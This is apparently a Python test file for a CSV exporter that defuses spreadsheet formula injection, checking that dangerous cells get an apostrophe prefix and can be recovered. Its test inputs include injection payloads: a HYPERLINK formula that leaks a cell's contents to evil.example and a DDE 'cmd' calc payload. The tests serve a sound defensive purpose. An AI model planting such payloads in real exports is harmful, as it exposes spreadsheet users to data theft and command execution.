"""Cells that a spreadsheet shows and never runs."""

import csv
import io
import re
from decimal import Decimal

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from apps.kinds.claim.records import Disagreement, Figure
from apps.takeaway import cells

STARTS = "=+-@\t\r＝＋－＠"
NASTY = st.text(st.sampled_from("=+-@\t\r\n;,\"' |aé＝０1") | st.characters(exclude_categories=["Cs"]))


def original(text: str) -> str:
    """What `safe` was given: no apostrophe is lost, and none stays that it set."""
    return re.sub(f"{cells._AT}'{cells._DANGER}", "", text)


def read(raw: bytes, *, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode(), newline=""), delimiter=delimiter))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example?"&A1)',
        "+1-555-0100",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        " =1",
        '"=1',
        "'=1",
        "＝1",
        "\x00=1",
        "\ufeff\u200b=1",
        "Riverside;=1+1",
    ],
)
def test_a_formula_becomes_text_and_can_be_had_back(text: str) -> None:
    made = cells.safe(text)
    assert made != text
    assert "'" in made
    assert original(made) == text


@pytest.mark.parametrize("text", ["", "Riverside Clinic", "O'Hara", "3 = 4", "a-b", "2025-03-09", "'t Hart"])
def test_an_ordinary_text_is_left_as_it_is(text: str) -> None:
    assert cells.safe(text) == text


@given(NASTY)
@example("=\t'\t=\n'\r")
def test_no_cell_starts_a_formula_and_every_text_comes_back(text: str) -> None:
    ((cell,),) = read(cells.lines([[text]])) or [[""]]
    assert not cell.startswith(tuple(STARTS))
    assert not cell.lstrip(" \"'\n").startswith(tuple(STARTS)) or cell.lstrip(' "\n').startswith("'")
    assert original(cell) == text


@given(st.lists(NASTY, min_size=1, max_size=4))
@example(["=1", "a; @1"])
@example(["a;\t1"])
def test_a_spreadsheet_that_splits_at_semicolons_finds_no_formula_either(texts: list[str]) -> None:
    for piece in ",".join(cells.safe(text) for text in texts).split(";"):
        assert not piece.lstrip(" ").startswith(("=", "@", "\t")), piece


@given(st.decimals(allow_nan=False, allow_infinity=False, places=2) | st.just(Decimal("-0.00")))
def test_an_amount_stays_a_number_with_its_digits(amount: Decimal) -> None:
    ((cell, other),) = read(cells.lines([[amount, "x"]]))
    assert (cell, other) == (format(amount, "f"), "x")
    assert Decimal(cell) == amount
    assert "E" not in cell


def test_a_negative_amount_is_no_formula_and_stays_one() -> None:
    assert cells.lines([[Decimal("-12.50"), "-12.50"]]) == b"-12.50,'-12.50\r\n"


def test_rows_end_as_rfc_4180_says_and_quotes_are_doubled() -> None:
    rows = [['say "ah"', "a,b", "two\nlines", None, True, False, 3]]
    assert cells.lines(rows) == b'"say ""ah""","a,b","two\nlines",,yes,no,3\r\n'


def test_half_a_letter_does_not_stop_the_file() -> None:
    assert cells.lines([["a\ud800b"]]) == b"a?b\r\n"


def test_what_exceeds_the_bill_together_is_named_and_no_amount_stands_for_another() -> None:
    """Under `not_covered` the payment and the bill stood as if they were other amounts of it."""
    uncovered, paid, bill = (Figure(Decimal(amount)) for amount in (30, 80, 100))
    whole = Disagreement("not_covered", "whole", uncovered, (paid, bill))
    assert cells.disagreement(whole) == "not_covered 30 and plan_paid 80 of billed 100"
